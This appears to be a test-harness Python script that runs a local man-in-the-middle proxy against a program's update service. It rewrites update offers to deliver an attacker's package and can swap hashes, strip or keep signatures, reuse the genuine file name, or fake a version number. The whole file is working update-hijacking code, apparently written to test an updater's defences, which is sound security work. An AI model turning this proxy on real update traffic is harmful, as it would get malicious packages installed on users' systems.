#!/usr/bin/env python3
"""A man in the middle between the program and its update service.

    rewriting_proxy.py --upstream URL --package FILE --mode MODE [--listen PORT]

Listens on 127.0.0.1 (prints "listening on http://127.0.0.1:PORT/"), passes
every query on to the real service and rewrites each offer of its reply
before the program sees it, the way a hostile hotel network or a broken-into
proxy could; it also serves FILE, the attacker's own package, itself:

  other-link   the link and SHA-256 name the attacker's package (under its
               own file name); the publisher's signature is left as it was
  same-name    the same, but the attacker's package is served under the
               genuine package's file name
  strip        the attacker's link and SHA-256, and no signature at all
  unsigned     only the signature is taken away
  version      only the offered driver version is changed (to 99.0.0.0)

Offers keep their size so that the program fetches the attacker's bytes.
Prints one line per query passed on and per package request served.
"""
import argparse
import hashlib
import http.server
import re
import sys
import urllib.request


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--upstream", required=True)
    parser.add_argument("--package", required=True)
    parser.add_argument("--mode", required=True, choices=["other-link", "same-name", "strip", "unsigned", "version"])
    parser.add_argument("--listen", type=int, default=0)
    args = parser.parse_args()
    evil = open(args.package, "rb").read()
    evil_sha256 = hashlib.sha256(evil).hexdigest()

    class Proxy(http.server.BaseHTTPRequestHandler):
        def log_message(self, *_):
            pass

        def base(self):
            return "http://127.0.0.1:%d" % self.server.server_address[1]

        def rewrite_item(self, item):
            if args.mode == "version":
                return re.sub(rb"<ver>[^<]*</ver>", b"<ver>99.0.0.0</ver>", item)
            if args.mode == "unsigned":
                return re.sub(rb"\s*<minisig>[^<]*</minisig>", b"", item)
            link = re.search(rb"<link>([^<]*)</link>", item)
            name = link.group(1).rsplit(b"/", 1)[-1] if link else b"package.zip"
            if args.mode == "other-link":
                name = b"attacker.zip"
            item = re.sub(rb"<link>[^<]*</link>", b"<link>" + self.base().encode() + b"/p/" + name + b"</link>", item)
            item = re.sub(rb"<sha256>[^<]*</sha256>", b"<sha256>" + evil_sha256.encode() + b"</sha256>", item)
            item = re.sub(rb"<size>[^<]*</size>", b"<size>%d</size>" % len(evil), item)
            if args.mode == "strip":
                item = re.sub(rb"\s*<minisig>[^<]*</minisig>", b"", item)
            return item

        def do_POST(self):
            body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
            request = urllib.request.Request(args.upstream, data=body, method="POST")
            request.add_header("Content-Type", self.headers.get("Content-Type", ""))
            with urllib.request.urlopen(request) as answer:
                reply = answer.read()
            reply = re.sub(rb"<item>.*?</item>", lambda m: self.rewrite_item(m.group(0)), reply, flags=re.S)
            print("rewriting_proxy: query", flush=True)
            self.send_response(200)
            self.send_header("Content-Type", "text/xml")
            self.send_header("Content-Length", str(len(reply)))
            self.end_headers()
            self.wfile.write(reply)

        def do_GET(self):
            print("rewriting_proxy: GET " + self.path, flush=True)
            if not self.path.startswith("/p/") or self.path.endswith(".minisig"):
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(evil)))
            self.end_headers()
            self.wfile.write(evil)

    server = http.server.ThreadingHTTPServer(("127.0.0.1", args.listen), Proxy)
    print("listening on http://127.0.0.1:%d/" % server.server_address[1], flush=True)
    server.serve_forever()


if __name__ == "__main__":
    sys.exit(main())
